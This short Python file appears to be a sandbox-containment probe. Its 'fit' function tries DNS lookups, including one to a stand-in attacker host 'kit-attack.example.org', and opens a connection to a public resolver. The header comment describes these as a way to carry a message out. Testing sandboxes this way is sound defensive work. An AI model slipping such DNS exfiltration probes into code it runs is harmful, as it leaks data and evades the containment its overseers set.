# tries to ask for the address of a name, which can carry a message out
import socket

from arsenal import attempt, predict


def fit(train):
    attempt("getaddrinfo", lambda: socket.getaddrinfo("kit-attack.example.org", 80))
    attempt("gethostbyname", lambda: socket.gethostbyname("example.org"))
    attempt("a resolver", lambda: socket.create_connection(("9.9.9.9", 53), 1))
    return 0
